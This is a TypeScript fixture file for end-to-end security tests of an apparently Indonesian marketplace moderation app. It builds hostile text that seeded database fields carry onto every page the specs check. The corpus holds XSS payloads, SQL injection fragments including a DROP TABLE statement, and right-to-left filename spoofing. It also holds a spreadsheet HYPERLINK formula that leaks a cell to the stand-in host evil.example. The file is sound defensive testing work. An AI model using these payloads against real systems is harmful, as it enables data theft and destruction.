// The hostile-input corpus (issue 9): strings that would run script, break layout, spoof text
// direction, hide characters, run as spreadsheet formulas or bend SQL if any layer trusted them.
// scripts/e2e-fixtures.ts plants them in the e2e database (e2e/security/hostile-fixtures.ts);
// the specs in e2e/security/ read every page that shows them. Plain data: no Playwright import,
// so the fixture script can load it too.

/** Script payloads. Each one that ran would set window.__xss (or open a dialog). */
export const SCRIPT_PAYLOADS = [
  `<img src=x onerror="window.__xss='img'">`,
  `<script>window.__xss='script'</script>`,
  `<svg onload="window.__xss='svg'"><circle r="4"/></svg>`,
  `"><img src=x onerror=alert(1)>`,
  `</textarea><script>alert(2)</script>`,
  `<a href="javascript:window.__xss='a'">klik</a>`,
  `<iframe srcdoc="<script>parent.__xss='iframe'</script>"></iframe>`,
] as const;

export const JAVASCRIPT_URL = "javascript:window.__xss='url'";
/** U+202E RIGHT-TO-LEFT OVERRIDE: "foto" + RLO + "fdp.png" looks like a PDF in a naive view. */
export const RTL_OVERRIDE = "\u202E";
export const ZERO_WIDTH = "\u200B\u200C\u200D\u2060\uFEFF";
/** Cell starts a spreadsheet would run as a formula (OWASP "CSV injection"). */
export const FORMULA_LEADERS = ["=", "+", "-", "@", "\t", "\r"] as const;
export const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`;
export const SQL_FRAGMENTS = ["' OR 1=1 --", "'; DROP TABLE cases; --", `" OR ""="`, "1) OR (1=1", "%' UNION SELECT NULL --"] as const;

/** An unbroken run of letters (no space, no hyphen) `length` characters long, with no signal word in it. */
export function unbroken(length: number): string {
  return "TeksPanjangTanpaJeda".repeat(Math.ceil(length / 20)).slice(0, length);
}

/**
 * One hostile text: a marker (to find it on the page), every script payload, a RTL override, zero-width
 * characters and SQL, at most `max` characters. With `leader` it starts with that formula character.
 */
export function hostileText(marker: string, max: number, leader = ""): string {
  const [img, ...otherPayloads] = SCRIPT_PAYLOADS;
  const body = [
    `${leader}${marker}`,
    img,
    `ad${ZERO_WIDTH}min`,
    SQL_FRAGMENTS[0],
    `foto${RTL_OVERRIDE}fdp.png`,
    ...otherPayloads,
    JAVASCRIPT_URL,
    ...SQL_FRAGMENTS.slice(1),
  ].join(" ");
  return body.slice(0, max);
}

/** A hostile text that ends in an unbroken run filling it up to `length`. */
export function hostileLong(marker: string, length: number, leader = ""): string {
  const start = `${hostileText(marker, length, leader)} `;
  return start + unbroken(Math.max(0, length - start.length));
}

/** The hostile shop, its seller and the staff member who decides its cases (fixed ids, so specs can link to them). */
export const HOSTILE = {
  shopId: "0e5f1a2b-9c3d-4e6f-8a7b-1c2d3e4f5a6b",
  shopExternalId: "e2e-hostile-shop",
  platformId: "lazada",
  platformName: "Lazada",
  sellerEmail: "penjual.hostile@timbang.test",
  moderatorEmail: "moderator.hostile@timbang.test",
  markers: {
    shop: "TokoHostile",
    sellerName: "PenjualHostile",
    moderatorName: "ModeratorHostile",
    openTitle: "JudulTerbuka",
    description: "DeskripsiHostile",
    flagNote: "CatatanFlag",
    infoMessage: "PesanMintaInfo",
    infoAnswer: "JawabanPenjual",
    takedownFacts: "FaktaTurun",
    internalNote: "CatatanInternal",
    sellerMessage: "PesanPenjual",
    appealText: "BandingHostile",
    appealReferences: "RujukanHostile",
    escalationRationale: "AlasanEskalasi",
    warnFacts: "FaktaPeringatan",
  },
} as const;

/** The seeded hostile texts, rebuilt the same way by the fixture and by the specs. */
export const HOSTILE_TEXT = {
  shopName: hostileLong(HOSTILE.markers.shop, 200),
  province: hostileText("ProvinsiHostile", 100),
  sellerName: hostileText(HOSTILE.markers.sellerName, 100),
  moderatorName: hostileText(HOSTILE.markers.moderatorName, 100),
  openTitle: hostileLong(HOSTILE.markers.openTitle, 500),
  description: hostileLong(HOSTILE.markers.description, 10_000),
  category: hostileText("KategoriHostile", 200),
  flagNote: hostileLong(HOSTILE.markers.flagNote, 2_000),
  infoMessage: hostileLong(HOSTILE.markers.infoMessage, 2_000),
  infoAnswer: hostileLong(HOSTILE.markers.infoAnswer, 3_000),
  takedownFacts: hostileLong(HOSTILE.markers.takedownFacts, 5_000, FORMULA),
  internalNote: hostileLong(HOSTILE.markers.internalNote, 5_000),
  sellerMessage: hostileLong(HOSTILE.markers.sellerMessage, 2_000),
  appealText: hostileLong(HOSTILE.markers.appealText, 3_000),
  appealReferences: hostileText(HOSTILE.markers.appealReferences, 500),
  escalationRationale: hostileLong(HOSTILE.markers.escalationRationale, 5_000),
  /** One warning per formula leader, so the statements export meets each. */
  warnFacts: FORMULA_LEADERS.map((leader) => hostileText(HOSTILE.markers.warnFacts, 1_000, leader)),
  evidenceName: `<img src=x onerror=alert(1)>foto${RTL_OVERRIDE}fdp.png`,
} as const;
